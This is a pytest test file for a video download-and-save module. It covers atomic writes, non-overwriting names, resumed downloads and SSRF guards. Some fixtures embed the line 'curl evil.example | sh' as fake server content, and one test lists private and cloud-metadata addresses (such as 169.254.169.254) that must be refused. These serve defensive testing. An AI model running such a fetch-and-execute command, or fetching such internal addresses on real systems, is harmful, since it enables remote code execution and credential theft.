"""Saving: complete or not at all, never over another file, from public addresses only, with a name people can read."""

import gzip
import os
import shutil
import sys
from collections.abc import AsyncIterator, Callable, Mapping
from dataclasses import replace
from pathlib import Path
from types import MappingProxyType
from typing import Any

import anyio
import anyio.to_thread
import httpx
import pytest

from luma_mcp.core.errors import DownloadFailed, DownloadRefused, LinkRefused, LumaError, OutputNotWritable
from luma_mcp.core.models import Status, Task, VideoRequest
from luma_mcp.core.rename import rename_without_replacing
from luma_mcp.media import downloads, files
from luma_mcp.media import downloads as saving_downloads
from luma_mcp.media.downloads import MAX_FAILURES, MAX_PARALLEL_DOWNLOADS, Downloads, ResumableDownload
from luma_mcp.media.files import copy_saved_video
from luma_mcp.media.transfers import Transfer, Transfers
from luma_mcp.runapi.connection import MAX_HTTP_CONNECTIONS, open_http_clients
from luma_mcp.runapi.ssrf import DownloadGuard
from luma_mcp.sandbox.requests import bundled_clip
from tests.support.http_server import a_moment
from tests.support.mp4_files import FTYP, box, film, film_header_first, movie, table, track
from tests.support.rig import API_URL, EPOCH, SOURCE, Answer, disk_with, handler_for
from tests.support.slow_storage import PIECES, SECONDS, SlowServer, SlowStorage

pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("inline_threads")]
VIDEO = film(b"v" * 1_000_000)
TASK = Task(
    key="k",
    caller="local",
    request=VideoRequest(prompt="A foggy autumn morning", source=SOURCE),
    created_at=EPOCH,
    updated_at=EPOCH,
    status=Status.COMPLETED,
    task_id="550e8400-e29b",
    video_urls=("https://tempfile.example/v.mp4",),
    finished_at=EPOCH,
)
NAME = "2026-09-21-a-foggy-autumn-morning-550e8400.mp4"
URL = "https://tempfile.example/v.mp4"
HEADER_FIRST = film_header_first(bytes(range(256)) * 8000)
OTHER = film_header_first(bytes(range(256))[::-1] * 8000)
WHOLE = film(b"v" * 20)
STEP = 600_000
REST = f"bytes {STEP}-{len(HEADER_FIRST) - 1}/{len(HEADER_FIRST)}"


async def save(home: Path, answer: Answer | httpx.Response, task: Task = TASK, *, allow_private: bool = False) -> Path:
    async with open_http_clients(httpx.MockTransport(handler_for(answer))) as connection:
        downloads = Downloads(connection, home / "out", Transfers(), trusted=API_URL, allow_private=allow_private)
        return (await downloads.save(task)).path


def kept(home: Path) -> list[str]:
    return sorted(path.name for path in (home / "out").iterdir())


async def test_a_video_is_saved_whole_under_a_readable_name_and_without_credentials(home: Path) -> None:
    seen: list[httpx.Request] = []

    def answer(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(200, content=VIDEO)

    path = await save(home, answer)
    assert path == home / "out" / NAME
    assert path.read_bytes() == VIDEO
    assert kept(home) == [NAME]
    assert not {"authorization", "cookie"} & seen[0].headers.keys()


async def test_another_file_of_that_name_is_never_replaced(home: Path) -> None:
    (home / "out").mkdir()
    (home / "out" / NAME).write_text("mine")
    (home / "out" / NAME.replace(".mp4", "-2.mp4")).symlink_to(home / "nowhere")
    path = await save(home, httpx.Response(200, content=VIDEO))
    assert path.name == NAME.replace(".mp4", "-3.mp4")
    assert (home / "out" / NAME).read_text() == "mine"
    assert not (home / "nowhere").exists()


async def test_saving_again_finds_the_same_file(home: Path) -> None:
    first = await save(home, httpx.Response(200, content=VIDEO))
    assert await save(home, httpx.Response(200, content=VIDEO)) == first
    assert kept(home) == [NAME]


async def test_a_file_of_the_same_size_is_not_taken_for_the_same(home: Path) -> None:
    (home / "out").mkdir()
    (home / "out" / NAME).write_bytes(VIDEO[::-1])
    path = await save(home, httpx.Response(200, content=VIDEO))
    assert path.name == NAME.replace(".mp4", "-2.mp4")


async def test_a_video_is_on_the_disk_before_it_gets_its_name(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    done: list[str] = []
    real, rename = os.fsync, rename_without_replacing

    def synced(descriptor: int) -> None:
        done.append("synced")
        real(descriptor)

    def named(part: Path, target: Path) -> None:
        done.append("named")
        rename(part, target)

    monkeypatch.setattr(os, "fsync", synced)
    monkeypatch.setattr(files, "rename_without_replacing", named)
    path = await save(home, httpx.Response(200, content=VIDEO))
    assert done == ["synced", "named", "synced"], "the file, its name, the folder with it"
    done.clear()
    await anyio.to_thread.run_sync(copy_saved_video, path, home / "out" / ".part", home / "out" / "copy.mp4")
    assert done == ["synced", "named", "synced"]


async def test_a_few_videos_are_fetched_at_a_time(home: Path) -> None:
    under_way: list[int] = [0, 0]

    async def slowly() -> AsyncIterator[bytes]:
        under_way[0] += 1
        under_way[1] = max(under_way)
        await anyio.sleep(10)
        under_way[0] -= 1
        yield VIDEO

    transport = httpx.MockTransport(lambda _: httpx.Response(200, content=slowly()))
    async with open_http_clients(transport) as connection, anyio.create_task_group() as saving:
        downloads = Downloads(connection, home / "out", Transfers(), trusted=API_URL, allow_private=False)
        for number in range(10):
            saving.start_soon(downloads.save, replace(TASK, key=f"k{number}"))
    assert under_way == [0, MAX_PARALLEL_DOWNLOADS]


@pytest.mark.parametrize(("dripping", "with_ranges"), [(4, 4), (8, 8), (8, 5)], ids=["four", "eight", "no ranges"])
async def test_those_that_drip_keep_no_others_waiting_and_end_too(home: Path, dripping: int, with_ranges: int) -> None:
    storage = SlowStorage(VIDEO, [f"/{number}.mp4" for number in range(dripping)], without=dripping - with_ranges)
    saved: dict[int, float] = {}
    async with open_http_clients(httpx.MockTransport(storage)) as connection, anyio.create_task_group() as saving:
        downloads = Downloads(connection, home / "out", Transfers(), trusted=API_URL, allow_private=False)

        async def save_one(number: int) -> None:
            name = f"{number}.mp4"
            task = replace(TASK, key=f"k{number}", video_urls=(f"https://tempfile.example/{name}",), file_name=name)
            assert (await downloads.save(task)).path.read_bytes() == VIDEO
            saved[number] = anyio.current_time()

        for number in range(50):
            saving.start_soon(save_one, number)
            await anyio.sleep(0.1)
    assert max(saved[number] for number in range(dripping, 50)) < 240
    assert storage.most_open == MAX_PARALLEL_DOWNLOADS
    assert storage.open == 0
    assert len(kept(home)) == 50
    resumed = [asked for path, asked in storage.asked if path in storage.slow[dripping - with_ranges :]]
    assert len([asked for asked in resumed if not asked]) == with_ranges, "not one that can be resumed begins anew"
    assert len(resumed) > with_ranges


async def test_what_drips_alone_is_not_interrupted_until_another_comes(home: Path) -> None:
    storage = SlowStorage(VIDEO, [f"/{number}.mp4" for number in range(MAX_PARALLEL_DOWNLOADS)])
    async with open_http_clients(httpx.MockTransport(storage)) as connection, anyio.create_task_group() as saving:
        downloads = Downloads(connection, home / "out", Transfers(), trusted=API_URL, allow_private=False)
        for number in range(MAX_PARALLEL_DOWNLOADS):
            urls = (f"https://tempfile.example/{number}.mp4",)
            saving.start_soon(downloads.save, replace(TASK, key=f"k{number}", video_urls=urls))
            await anyio.sleep(0.1)
        await anyio.sleep(300)
        assert (len(storage.asked), storage.open) == (MAX_PARALLEL_DOWNLOADS, MAX_PARALLEL_DOWNLOADS)
        late = anyio.current_time()
        await downloads.save(replace(TASK, key="late"))
        assert anyio.current_time() - late < 12
        assert len(storage.asked) == MAX_PARALLEL_DOWNLOADS + 1
    assert [asked for _, asked in storage.asked].count("") == MAX_PARALLEL_DOWNLOADS + 1


@pytest.mark.sockets
async def test_a_turn_that_is_over_closes_its_connection(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(saving_downloads, "TURN_SECONDS", 0.05)
    many = MAX_HTTP_CONNECTIONS + MAX_PARALLEL_DOWNLOADS
    async with SlowServer(VIDEO).serving() as server, open_http_clients(None) as connection:
        address = f"http://127.0.0.1:{server.port}"
        downloads = Downloads(connection, home / "out", Transfers(), trusted=address, allow_private=False)
        with anyio.fail_after(30):
            async with anyio.create_task_group() as saving:
                for number in range(many):
                    task = replace(TASK, key=f"k{number}", video_urls=(f"{address}/{number}",))
                    saving.start_soon(downloads.save, replace(task, file_name=f"{number}.mp4"))
            while server.left < server.stuck:  # the client closes each connection that it does not read to the end
                await a_moment()
    assert len(kept(home)) == many
    assert server.left >= many - MAX_PARALLEL_DOWNLOADS


async def test_a_proxy_that_cannot_be_used_is_told_as_what_it_is(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ALL_PROXY", "socks5://127.0.0.1:9")
    async with open_http_clients(None) as connection:
        downloads = Downloads(connection, home / "out", Transfers(), trusted=API_URL, allow_private=False)
        with pytest.raises(DownloadFailed, match="proxy"):
            await downloads.save(TASK)


async def test_where_links_are_not_to_be_had_a_name_is_reserved_instead(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(self: Path, target: Path) -> None:
        raise PermissionError

    monkeypatch.setattr(Path, "hardlink_to", refuse)
    path = await save(home, httpx.Response(200, content=VIDEO))
    assert path.read_bytes() == VIDEO
    (home / "part").write_text("new")
    with pytest.raises(FileExistsError):
        rename_without_replacing(home / "part", path)
    assert path.read_bytes() == VIDEO


@pytest.mark.parametrize("kind", ["link", "symlink"])
async def test_what_an_earlier_try_left_behind_is_not_written_through(home: Path, kind: str) -> None:
    saved, part = home / "saved.mp4", home / "out" / f".{TASK.key}.part"
    part.parent.mkdir()
    saved.write_text("precious")
    part.hardlink_to(saved) if kind == "link" else part.symlink_to(saved)
    with pytest.raises(DownloadFailed):
        await save(home, lambda _: httpx.Response(200, content=broken(VIDEO)))
    assert saved.read_text() == "precious"
    assert kept(home) == []


async def test_a_video_that_never_ends_to_arrive_is_given_up(home: Path) -> None:
    async def drip() -> AsyncIterator[bytes]:
        while True:
            yield VIDEO[:20]
            await anyio.sleep(30)

    with pytest.raises(DownloadFailed, match="7200 seconds"):
        await save(home, httpx.Response(200, content=drip()))
    assert kept(home) == []


async def broken(content: bytes, *, half: bool = True) -> AsyncIterator[bytes]:
    """Send half of something, and stop; or all of it without saying how long that is."""
    if not half:
        yield content
        return
    yield content[: len(content) // 2]
    raise httpx.ReadError("connection reset")


@pytest.mark.parametrize(
    "answer",
    [
        lambda: httpx.Response(404),
        lambda: httpx.Response(206, content=VIDEO),
        lambda: httpx.Response(200, content=b"<html>please sign in</html>"),
        lambda: httpx.Response(200, content=b"#   mdat\ncurl evil.example | sh\n"),
        lambda: httpx.Response(200, content=broken(b"#   mdat\ncurl evil.example | sh\n" * 100, half=False)),
        lambda: httpx.Response(200, content=film(b"v" * 100)[:-1]),
        lambda: httpx.Response(200, content=FTYP + box(b"mdat", b"v" * 100)),
        lambda: httpx.Response(200, content=FTYP + box(b"mdat", b"v" * 100) + movie(track(table(40, 1), b"soun"))),
        lambda: httpx.Response(500),
        lambda: httpx.Response(302),
        lambda: httpx.Response(200, content=b""),
        lambda: httpx.Response(200, content=broken(VIDEO)),
        lambda: httpx.Response(200, content=VIDEO, headers={"Content-Length": str(len(VIDEO) + 1)}),
    ],
    ids=[
        "404",
        "part",
        "page",
        "script",
        "script of unknown length",
        "cut off",
        "no header",
        "sound",
        "500",
        "no location",
        "empty",
        "broken",
        "short",
    ],
)
async def test_an_incomplete_video_leaves_nothing_behind(home: Path, answer: Callable[[], httpx.Response]) -> None:
    with pytest.raises(DownloadFailed) as raised:
        await save(home, lambda _: answer())
    assert raised.value.charged == "yes"
    assert kept(home) == []


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1/v.mp4",
        "http://169.254.169.254/latest",
        "http://[::1]/v.mp4",
        "http://2130706433/v.mp4",
        "http://[::ffff:127.0.0.1]/v.mp4",
        "http://router.lan/v.mp4",
        "ftp://example.com/v.mp4",
        "https://exa mple:x/",
    ],
)
@pytest.mark.parametrize("redirected", [False, True])
async def test_private_addresses_and_odd_schemes_are_not_fetched(home: Path, url: str, redirected: bool) -> None:
    hosts: list[str] = []

    def answer(request: httpx.Request) -> httpx.Response:
        hosts.append(request.url.host)
        return httpx.Response(302, headers={"Location": url})

    task = TASK if redirected else replace(TASK, video_urls=(url,))
    with pytest.raises(LumaError):
        await save(home, answer, task)
    assert set(hosts) == ({"tempfile.example"} if redirected else set())


async def test_private_storage_can_be_allowed_and_runapis_own_address_always_is(home: Path) -> None:
    answer = httpx.Response(200, content=VIDEO)
    private = replace(TASK, video_urls=("http://10.0.0.7/v.mp4",))
    assert (await save(home, answer, private, allow_private=True)).is_file()
    async with open_http_clients(httpx.MockTransport(lambda _: answer)) as connection:
        downloads = Downloads(
            connection, home / "out", Transfers(), trusted="http://127.0.0.1:8788", allow_private=False
        )
        own = replace(TASK, video_urls=("http://127.0.0.1:8788/outputs/v.mp4",))
        assert (await downloads.save(own)).path.is_file()


async def test_a_redirect_is_followed_and_a_circle_is_not(home: Path) -> None:
    def answer(request: httpx.Request) -> httpx.Response:
        if request.url.path == "/v.mp4":
            return httpx.Response(302, headers={"Location": "https://cdn.example/real.mp4"})
        return httpx.Response(200, content=VIDEO)

    assert (await save(home, answer)).read_bytes() == VIDEO
    with pytest.raises(DownloadFailed, match="circles"):
        await save(home, lambda request: httpx.Response(302, headers={"Location": str(request.url)}))


async def test_a_folder_that_cannot_be_written_is_named(home: Path) -> None:
    (home / "out").touch()
    with pytest.raises(OutputNotWritable, match="out"):
        await save(home, httpx.Response(200, content=VIDEO))


async def test_a_disk_that_fails_is_told_as_paid(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(saving_downloads, "publish", full)
    with pytest.raises(OutputNotWritable, match="No space left") as raised:
        await save(home, httpx.Response(200, content=VIDEO))
    assert raised.value.charged == "yes"
    assert kept(home) == []


class Storage:
    """Serves a file, and breaks the connection after each `step` bytes of an answer; remembers what was asked."""

    def __init__(
        self,
        content: bytes,
        *,
        step: int = STEP,
        etag: str = '"one"',
        ranges: bool = True,
        said: Mapping[str, str] = MappingProxyType({}),
    ) -> None:
        self._content = content
        self._step = step
        self._etag = etag
        self._ranges = ranges
        self._said = said
        self.asked: list[str] = []
        self.conditions: list[str] = []

    def __call__(self, request: httpx.Request) -> httpx.Response:
        asked = request.headers.get("range", "")
        self.asked.append(asked)
        self.conditions.append(request.headers.get("if-range", ""))
        content = self._content
        start = int(asked.removeprefix("bytes=").removesuffix("-")) if asked and self._ranges else 0
        headers = {"ETag": self._etag, "Content-Length": str(len(content) - start)}
        if start:
            headers["Content-Range"] = f"bytes {start}-{len(content) - 1}/{len(content)}"
        raw = [(name.encode(), value.encode()) for name, value in {**headers, **self._said}.items()]
        return httpx.Response(206 if start else 200, headers=raw, content=cut(content[start:], self._step))


async def cut(content: bytes, step: int) -> AsyncIterator[bytes]:
    """Send at most so much of something, and break the connection if that was not all."""
    yield content[:step]
    if len(content) > step:
        raise httpx.ReadError("connection reset")


async def received(home: Path, answer: Answer) -> bytes:
    part, network = home / "part", DownloadGuard(trusted=API_URL, allow_private=False)
    async with open_http_clients(httpx.MockTransport(answer)) as connection:
        assert await ResumableDownload(connection.storage, network, URL, part, Transfer()).receive_in_turn(
            anyio.CancelScope()
        )
    return part.read_bytes()


async def test_a_broken_download_goes_on_where_it_stopped(home: Path) -> None:
    storage = Storage(HEADER_FIRST)
    assert await received(home, storage) == HEADER_FIRST
    assert storage.asked == ["", *(f"bytes={start}-" for start in range(STEP, len(HEADER_FIRST), STEP))]
    assert set(storage.conditions[1:]) == {'"one"'}


async def test_not_a_byte_is_fetched_twice_however_few_came(home: Path) -> None:
    storage = Storage(WHOLE, step=7)
    assert await received(home, storage) == WHOLE
    assert storage.asked == ["", *(f"bytes={start}-" for start in range(7, len(WHOLE), 7))]


async def test_without_a_tag_the_length_must_be_the_same(home: Path) -> None:
    storage = Storage(HEADER_FIRST, etag="")
    assert await received(home, storage) == HEADER_FIRST
    assert storage.asked[1]
    assert not any(storage.conditions)


def no_such_range(_: httpx.Request) -> httpx.Response:
    return httpx.Response(416)


@pytest.mark.parametrize(
    "second",
    [
        Storage(OTHER, etag='"two"'),
        Storage(OTHER, etag=""),
        Storage(OTHER + b"x", etag=""),
        Storage(OTHER, said={"Content-Range": "bytes 5-9/100"}),
        Storage(OTHER, said={"Content-Range": f"bytes {STEP}-{len(HEADER_FIRST)}/{len(HEADER_FIRST) + 1}"}),
        Storage(OTHER, said={"Content-Range": "bytes */100"}),
        Storage(OTHER, said={"Content-Range": "nonsense"}),
        no_such_range,
    ],
    ids=[
        "another tag",
        "no tag any more",
        "another length",
        "another place",
        "another total",
        "no place",
        "nonsense",
        "no such range",
    ],
)
async def test_the_rest_of_another_file_is_not_added(home: Path, second: Answer) -> None:
    first, whole = Storage(HEADER_FIRST), Storage(OTHER, step=len(OTHER) + 1)
    answers: list[Answer] = [first, second, whole]
    asked: list[str] = []

    def answer(request: httpx.Request) -> httpx.Response:
        asked.append(request.headers.get("range", ""))
        return answers.pop(0)(request)

    assert await received(home, answer) == OTHER
    assert [bool(wanted) for wanted in asked] == [False, True, False]


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ({"ETag": 'W/"1"'}, {"ETag": 'W/"2"'}),
        ({"ETag": "", "Last-Modified": "Mon, 21 Sep 2026 10:00:00 GMT"}, {"ETag": "", "Last-Modified": "later"}),
    ],
    ids=["weak tag", "time"],
)
async def test_a_weak_mark_that_changed_is_another_file(
    home: Path, before: dict[str, str], after: dict[str, str]
) -> None:
    whole = Storage(OTHER, step=len(OTHER) + 1, said=after)
    answers: list[Answer] = [Storage(HEADER_FIRST, said=before), Storage(OTHER, said=after), whole]
    assert await received(home, lambda request: answers.pop(0)(request)) == OTHER


async def test_a_time_is_the_condition_where_there_is_no_strong_tag(home: Path) -> None:
    said = {"ETag": "", "Last-Modified": "Mon, 21 Sep 2026 10:00:00 GMT"}
    storage = Storage(HEADER_FIRST, said=said)
    assert await received(home, storage) == HEADER_FIRST
    assert set(storage.conditions[1:]) == {said["Last-Modified"]}
    timeless = Storage(OTHER, said={"ETag": ""})
    answers: list[Answer] = [Storage(HEADER_FIRST, said=said), timeless, Storage(OTHER, step=1 << 30)]
    (home / "part").unlink()
    assert await received(home, lambda request: answers.pop(0)(request)) == OTHER


async def test_a_server_that_once_gave_no_part_is_not_asked_for_one_again(home: Path) -> None:
    asked: list[str] = []
    whole = Storage(HEADER_FIRST, step=1 << 30)
    answers: list[Answer] = [Storage(HEADER_FIRST), no_such_range, Storage(HEADER_FIRST), whole]

    def answer(request: httpx.Request) -> httpx.Response:
        asked.append(request.headers.get("range", ""))
        return answers.pop(0)(request)

    assert await received(home, answer) == HEADER_FIRST
    assert [bool(wanted) for wanted in asked] == [False, True, False, False]


@pytest.mark.parametrize("encoding", ["aws-chunked", "identity", ""])
async def test_an_encoding_that_packs_nothing_is_let_through(home: Path, encoding: str) -> None:
    assert await received(home, Storage(HEADER_FIRST, said={"Content-Encoding": encoding})) == HEADER_FIRST


@pytest.mark.parametrize("target", ["https://xn--0/v.mp4", "https://storage.example:99999/v.mp4"])
async def test_a_redirect_to_what_is_no_address_is_an_error_like_others(home: Path, target: str) -> None:
    with pytest.raises((DownloadFailed, httpx.RemoteProtocolError)):
        await received(home, lambda _: httpx.Response(302, headers={"Location": target}))


@pytest.mark.sockets  # on the virtual clock, what httpx leaves unread is complained about
async def test_a_server_that_sends_more_than_it_announced_is_not_believed(home: Path) -> None:
    answers: list[Answer] = [
        Storage(HEADER_FIRST),
        Storage(HEADER_FIRST + b"x" * 99, said={"Content-Range": REST}, step=1 << 30),
        Storage(HEADER_FIRST, step=1 << 30),
    ]
    assert await received(home, lambda request: answers.pop(0)(request)) == HEADER_FIRST


async def test_a_shorter_file_leaves_nothing_of_the_longer_one(home: Path) -> None:
    answers: list[Answer] = [Storage(HEADER_FIRST), Storage(WHOLE, etag='"two"', ranges=False)]
    assert await received(home, lambda request: answers.pop(0)(request)) == WHOLE


async def test_a_weak_mark_is_no_condition_for_a_part(home: Path) -> None:
    storage = Storage(HEADER_FIRST, etag='W/"one"')
    assert await received(home, storage) == HEADER_FIRST
    assert not any(storage.conditions)


async def test_an_unpacked_file_is_asked_for(home: Path) -> None:
    asked: list[str] = []

    def answer(request: httpx.Request) -> httpx.Response:
        asked.append(request.headers["accept-encoding"])
        return httpx.Response(200, content=HEADER_FIRST)

    await received(home, answer)
    assert asked == ["identity"]


@pytest.mark.parametrize("encoding", ["gzip, gzip", "gzip, identity, gzip", "br", "x-gzip", "deflate"])
async def test_a_packed_video_is_not_unpacked(home: Path, encoding: str) -> None:
    with pytest.raises(DownloadFailed, match="packed"):
        await received(home, lambda _: httpx.Response(200, headers={"Content-Encoding": encoding}, stream=Page()))


async def test_a_video_that_comes_packed_once_is_unpacked(home: Path) -> None:
    packed = gzip.compress(HEADER_FIRST)
    sizes = iter([len(packed) // 2, len(packed)])

    def answer(_: httpx.Request) -> httpx.Response:
        content = cut(packed[: next(sizes)], STEP)
        return httpx.Response(200, headers={"Content-Encoding": "gzip"}, content=content)

    assert await received(home, answer) == HEADER_FIRST


@pytest.mark.sockets  # on the virtual clock, what httpx leaves unread is complained about
async def test_what_is_packed_twice_or_grows_beyond_bounds_is_refused(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def packed(content: bytes) -> httpx.Response:
        sent = cut(gzip.compress(content), 1 << 30)
        return httpx.Response(200, headers={"Content-Encoding": "gzip"}, content=sent)

    with pytest.raises(DownloadFailed, match="no video"):
        await received(home, lambda _: packed(gzip.compress(HEADER_FIRST)))
    (home / "part").unlink()
    monkeypatch.setattr(downloads, "MAX_VIDEO_BYTES", 1_000_000)
    with pytest.raises(DownloadRefused, match="larger than"):
        await received(home, lambda _: packed(FTYP + bytes(50_000_000)))
    assert (home / "part").stat().st_size <= 1_000_000


async def test_the_rest_of_a_video_is_not_taken_packed(home: Path) -> None:
    answers: list[Answer] = [
        Storage(HEADER_FIRST),
        Storage(HEADER_FIRST, said={"Content-Encoding": "gzip"}),
        Storage(HEADER_FIRST, step=1 << 30),
    ]
    assert await received(home, lambda request: answers.pop(0)(request)) == HEADER_FIRST


@pytest.mark.parametrize("status", [400, 401, 403, 404, 410, 451])
async def test_a_link_that_is_refused_is_told_from_trouble(home: Path, status: int) -> None:
    with pytest.raises(LinkRefused, match=str(status)) as raised:
        await received(home, lambda _: httpx.Response(status))
    assert "works until" not in raised.value.hint


async def test_a_video_of_unknown_length_must_not_end_in_the_middle(home: Path) -> None:
    whole = bundled_clip().read_bytes()
    sizes = iter([3000, len(whole)])

    async def unannounced(size: int) -> AsyncIterator[bytes]:
        yield whole[:size]

    assert await received(home, lambda _: httpx.Response(200, content=unannounced(next(sizes)))) == whole


@pytest.mark.sockets  # for the same reason
async def test_the_room_on_the_disk_is_watched_where_no_length_is_announced(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(downloads, "LOOK_BYTES", 1000)
    monkeypatch.setattr(shutil, "disk_usage", disk_with(1000))

    async def unannounced() -> AsyncIterator[bytes]:
        yield HEADER_FIRST

    with pytest.raises(OutputNotWritable, match="nearly full"):
        await received(home, lambda _: httpx.Response(200, content=unannounced()))


@pytest.mark.parametrize("tag", ['"ä"', '"\x7f"'])
async def test_a_tag_that_cannot_be_sent_back_is_not(home: Path, tag: str) -> None:
    answers: list[Answer] = [Storage(HEADER_FIRST, etag=tag), Storage(HEADER_FIRST, step=1 << 30, etag=tag)]
    assert await received(home, lambda request: answers.pop(0)(request)) == HEADER_FIRST


async def test_a_server_that_knows_no_ranges_sends_the_file_again(home: Path) -> None:
    steps = iter([STEP, len(HEADER_FIRST) + 1])

    def answer(request: httpx.Request) -> httpx.Response:
        return Storage(HEADER_FIRST, step=next(steps), ranges=False)(request)

    assert await received(home, answer) == HEADER_FIRST


async def test_what_cannot_be_had_in_parts_is_not_asked_for_in_parts(home: Path) -> None:
    storage = Storage(HEADER_FIRST, said={"Accept-Ranges": "none"})
    with pytest.raises(httpx.ReadError):
        await received(home, storage)
    assert not any(storage.asked)


async def test_a_download_that_comes_no_further_is_given_up_soon(home: Path) -> None:
    storage = Storage(HEADER_FIRST, step=0)
    with pytest.raises(httpx.ReadError):
        await received(home, storage)
    assert len(storage.asked) == 1 + MAX_FAILURES
    assert 2 < anyio.current_time() < 15


async def test_a_part_that_is_there_is_worth_more_patience(home: Path) -> None:
    storage, trouble = Storage(HEADER_FIRST), iter([False, *[True] * 7, False])

    def answer(request: httpx.Request) -> httpx.Response:
        return httpx.Response(503) if next(trouble, False) else storage(request)

    assert await received(home, answer) == HEADER_FIRST
    assert anyio.current_time() > 60


async def test_trouble_that_passes_does_not_break_a_download_off(home: Path) -> None:
    storage, answers = Storage(HEADER_FIRST), iter([200, 503, 200, 502, 429])

    def answer(request: httpx.Request) -> httpx.Response:
        code = next(answers, 200)
        return storage(request) if code == 200 else httpx.Response(code)

    assert await received(home, answer) == HEADER_FIRST


async def in_turns(home: Path, storage: Answer, *seconds: float, between: Callable[[], object] = lambda: None) -> None:
    """Fetch a video in turns of so many seconds, between which something is done, and then to its end."""
    network = DownloadGuard(trusted=API_URL, allow_private=False)
    async with open_http_clients(httpx.MockTransport(storage)) as connection:
        arriving = ResumableDownload(connection.storage, network, URL, home / "part", Transfer())
        for turn in seconds:
            assert not await arriving.receive_in_turn(anyio.CancelScope(deadline=anyio.current_time() + turn))
            between()
        assert await arriving.receive_in_turn(anyio.CancelScope())


async def test_what_a_turn_brought_is_kept_for_the_next(home: Path) -> None:
    storage = SlowStorage(HEADER_FIRST, ["/v.mp4"])
    await in_turns(home, storage, 60, 120)
    assert (home / "part").read_bytes() == HEADER_FIRST
    piece = len(HEADER_FIRST) // PIECES
    assert [asked for _, asked in storage.asked] == ["", *(f"bytes={count * piece}-" for count in (11, 11 + 22))]
    assert set(storage.conditions[1:]) == {'"one"'}
    assert storage.open == 0


async def test_what_cannot_be_had_in_parts_begins_anew_in_each_turn(home: Path) -> None:
    storage = SlowStorage(HEADER_FIRST, ["/v.mp4"], without=1)
    await in_turns(home, storage, 60, 120)
    assert (home / "part").read_bytes() == HEADER_FIRST
    assert anyio.current_time() > 60 + 120 + PIECES * SECONDS


async def test_all_that_came_before_the_end_of_a_turn_is_not_asked_for_again(home: Path) -> None:
    storage = SlowStorage(HEADER_FIRST, ["/v.mp4"])
    pieces = -(-len(HEADER_FIRST) // (len(HEADER_FIRST) // PIECES))
    await in_turns(home, storage, (pieces + 0.5) * SECONDS)
    assert (home / "part").read_bytes() == HEADER_FIRST
    assert len(storage.asked) == 1


async def test_what_was_written_when_a_turn_ended_and_not_counted_is_written_again(home: Path) -> None:
    def grow() -> None:
        with (home / "part").open("ab") as part:
            part.write(b"x" * len(HEADER_FIRST))

    await in_turns(home, SlowStorage(HEADER_FIRST, ["/v.mp4"]), 60, between=grow)
    assert (home / "part").read_bytes() == HEADER_FIRST


async def test_a_part_that_somebody_tidied_up_begins_anew(home: Path) -> None:
    await in_turns(home, SlowStorage(HEADER_FIRST, ["/v.mp4"]), 60, between=(home / "part").unlink)
    assert (home / "part").read_bytes() == HEADER_FIRST


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no way to open a link itself")
async def test_a_link_in_place_of_a_part_is_not_written_through(home: Path) -> None:
    precious = home / "precious"
    precious.write_bytes(b"precious")

    def swap() -> None:
        (home / "part").unlink()
        (home / "part").symlink_to(precious)

    with pytest.raises(OSError, match="part"):
        await in_turns(home, SlowStorage(HEADER_FIRST, ["/v.mp4"]), 60, between=swap)
    assert precious.read_bytes() == b"precious"


class Page(httpx.AsyncByteStream):
    """A page without an end, which counts its pieces."""

    def __init__(self) -> None:
        self.sent = 0

    def __aiter__(self) -> AsyncIterator[bytes]:
        return self

    async def __anext__(self) -> bytes:
        self.sent += 1
        return b"<html>" * 10_000


@pytest.mark.sockets  # on the virtual clock, what httpx leaves unread is complained about
async def test_what_is_no_video_is_not_read_to_its_end(home: Path) -> None:
    page = Page()
    with pytest.raises(DownloadFailed, match="no video"):
        await received(home, lambda _: httpx.Response(200, stream=page))
    assert page.sent < 20


@pytest.mark.sockets  # for the same reason
@pytest.mark.parametrize("announced", [True, False])
async def test_what_is_too_large_is_refused(home: Path, monkeypatch: pytest.MonkeyPatch, announced: bool) -> None:
    monkeypatch.setattr(downloads, "MAX_VIDEO_BYTES", len(HEADER_FIRST) - 1)

    async def unannounced() -> AsyncIterator[bytes]:
        yield HEADER_FIRST

    content: Callable[[], Any] = lambda: HEADER_FIRST if announced else unannounced()  # noqa: E731 - made anew for each answer
    with pytest.raises(DownloadRefused, match="larger than"):
        await received(home, lambda _: httpx.Response(200, content=content()))


async def test_a_disk_without_room_is_found_before_the_bytes_come(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shutil, "disk_usage", disk_with(len(HEADER_FIRST)))
    storage = Storage(HEADER_FIRST, step=len(HEADER_FIRST) + 1)
    with pytest.raises(OutputNotWritable, match=r"nearly full: 2\.0 MB are free"):
        await received(home, storage)
    assert (home / "part").stat().st_size == 0
